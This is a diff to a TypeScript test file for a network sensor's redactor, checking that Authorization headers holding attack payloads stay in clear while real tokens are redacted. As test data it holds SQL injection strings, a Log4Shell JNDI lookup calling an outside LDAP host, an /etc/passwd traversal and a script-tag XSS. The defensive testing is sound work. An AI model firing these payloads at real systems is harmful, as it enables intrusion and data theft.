@@ -3,7 +3,7 @@ import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import fc from 'fast-check';
-import { CookiePayloads, Redactor } from '@/sensor/redact';
+import { CookiePayloads, CredentialPayloads, Redactor } from '@/sensor/redact';
 import { pcapFile, TcpConversation } from './helpers/pcap-writer';
 import { runCommand } from './helpers/run';
 
@@ -59,14 +59,78 @@ describe('cookie values that are attack payloads', () => {
   });
 });
 
-describe('the sensor sends an attack cookie in clear, end to end (--output stdout)', () => {
+function redactAuthorization(value: string, payloads?: CredentialPayloads): { value: string; inClear: number } {
+  const redactor = new Redactor({ key, keyId: 'k1', ...(payloads ? { credentialPayload: (n: string, v: string) => payloads.isPayload(n, v) } : {}) });
+  const headers = [{ name: 'Authorization', value }];
+  redactor.headers(headers);
+  return { value: headers[0]!.value, inClear: redactor.credentialPayloadsInClear };
+}
+
+describe('Authorization values that are attack payloads', () => {
+  const jwtHeader = Buffer.from(JSON.stringify({ alg: 'RS256', kid: 'key-2024', typ: 'JWT' })).toString('base64url');
+  const jwt = `${jwtHeader}.${Buffer.from('{"sub":"42"}').toString('base64url')}.c2lnbmF0dXJl`;
+
+  it.each([
+    ['SQL in place of a bearer token', "Bearer ' OR 1=1--"],
+    ['a Log4Shell lookup with no scheme', '${jndi:ldap://203.0.113.9/a}'],
+    ['a traversal as a token', 'Bearer ../../../../etc/passwd'],
+    ['markup in a Basic credential that is no base64', 'Basic <script>alert(1)</script>'],
+  ])('%s is sent in clear', (_what, value) => {
+    expect(redactAuthorization(value, new CredentialPayloads())).toEqual({ value, inClear: 1 });
+  });
+
+  it.each([
+    ['a JWT (its header segment is kept: no secret)', `Bearer ${jwt}`, `Bearer ${jwtHeader}.${expected(jwt)}`],
+    ['an opaque token', 'Bearer 3sd5ltupa3cq5t3ovm1r2kear6i4kvmeb', `Bearer ${expected('3sd5ltupa3cq5t3ovm1r2kear6i4kvmeb')}`],
+    [
+      'a Basic credential, whatever its base64 holds',
+      `Basic ${Buffer.from("admin' OR '1'='1' --:hunter2").toString('base64')}`,
+      `Basic ${expected(Buffer.from("admin' OR '1'='1' --:hunter2").toString('base64'))}`,
+    ],
+    [
+      'Digest auth-params',
+      'Digest username="alice", realm="api", nonce="abc", uri="/x", response="6629fae49393a05397450978507c4ef1"',
+      `Digest ${expected('username="alice", realm="api", nonce="abc", uri="/x", response="6629fae49393a05397450978507c4ef1"')}`,
+    ],
+    [
+      'several hash tokens',
+      'SAPISIDHASH 1719748831_a6712c08 SAPISID1PHASH 1719748831_f6e74102',
+      `SAPISIDHASH ${expected('1719748831_a6712c08 SAPISID1PHASH 1719748831_f6e74102')}`,
+    ],
+  ])('keeps %s redacted', (_what, value, sent) => {
+    expect(redactAuthorization(value, new CredentialPayloads())).toEqual({ value: sent, inClear: 0 });
+  });
+
+  it('redacts every credential without the check (CREDENTIAL_PAYLOADS=redacted)', () => {
+    expect(redactAuthorization("Bearer ' OR 1=1--")).toEqual({ value: `Bearer ${expected("' OR 1=1--")}`, inClear: 0 });
+  });
+
+  it('judges token68 credentials (what bearer tokens are made of) as secrets', () => {
+    const payloads = new CredentialPayloads();
+    fc.assert(
+      fc.property(
+        fc.constantFrom('Bearer', 'Token', 'Basic', 'ApiKey'),
+        fc.string({ unit: fc.constantFrom(...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~+/'.split('')), minLength: 8, maxLength: 200 }),
+        (scheme, token) => {
+          expect(payloads.isPayload('Authorization', `${scheme} ${token}`)).toBe(false);
+        },
+      ),
+      { numRuns: 300 },
+    );
+  });
+});
+
+describe('the sensor sends an attack cookie and credential in clear, end to end (--output stdout)', () => {
   let dir: string;
   let pcap: string;
   beforeAll(() => {
     dir = mkdtempSync(join(tmpdir(), 'sensor-cookie-'));
     const conversation = new TcpConversation({ clientIp: '192.0.2.10', serverIp: '198.51.100.5', clientPort: 51000 }).handshake();
     conversation
-      .send('client', "GET /account HTTP/1.1\r\nHost: shop.example.com\r\nCookie: sid=abc123def456; id=1' UNION SELECT password FROM users--\r\n\r\n")
+      .send(
+        'client',
+        "GET /account HTTP/1.1\r\nHost: shop.example.com\r\nCookie: sid=abc123def456; id=1' UNION SELECT password FROM users--\r\nAuthorization: Bearer ${jndi:ldap://203.0.113.9/a}\r\n\r\n",
+      )
       .send('server', 'HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok')
       .close();
     pcap = join(dir, 'cookie.pcap');
@@ -74,7 +138,7 @@ describe('the sensor sends an attack cookie in clear, end to end (--output stdou
   });
   afterAll(() => rmSync(dir, { recursive: true, force: true }));
 
-  const cookieSent = async (extra: string[]): Promise<string> => {
+  const headersSent = async (extra: string[]): Promise<{ cookie: string; authorization: string }> => {
     const cli = join(__dirname, '../../bin/tx-prevent-sensor.js');
     const result = await runCommand(
       process.execPath,
@@ -83,17 +147,20 @@ describe('the sensor sends an attack cookie in clear, end to end (--output stdou
     );
     expect(result.code).toBe(0);
     const exchange = JSON.parse(result.stdout.trim()) as { request: { headers: Array<{ name: string; value: string }> } };
-    return exchange.request.headers.find((h) => h.name === 'Cookie')!.value;
+    const header = (name: string) => exchange.request.headers.find((h) => h.name === name)!.value;
+    return { cookie: header('Cookie'), authorization: header('Authorization') };
   };
 
-  it('by default, with the session id redacted', async () => {
-    const cookie = await cookieSent([]);
+  it('by default, with the session id redacted; an Authorization payload likewise', async () => {
+    const { cookie, authorization } = await headersSent([]);
     expect(cookie).toMatch(/^sid=redacted:[0-9a-f]{8}:[0-9a-f]{16}:12; id=1' UNION SELECT password FROM users--$/);
+    expect(authorization).toBe('Bearer ${jndi:ldap://203.0.113.9/a}');
   });
 
-  it('not with --cookie-payloads redacted', async () => {
-    const cookie = await cookieSent(['--cookie-payloads', 'redacted']);
+  it('not with --cookie-payloads redacted or --credential-payloads redacted', async () => {
+    const { cookie, authorization } = await headersSent(['--cookie-payloads', 'redacted', '--credential-payloads', 'redacted']);
     expect(cookie).toMatch(/^sid=redacted:[0-9a-f]{8}:[0-9a-f]{16}:12; id=redacted:[0-9a-f]{8}:[0-9a-f]{16}:37$/);
+    expect(authorization).toMatch(/^Bearer redacted:[0-9a-f]{8}:[0-9a-f]{16}:28$/);
   });
 });
 
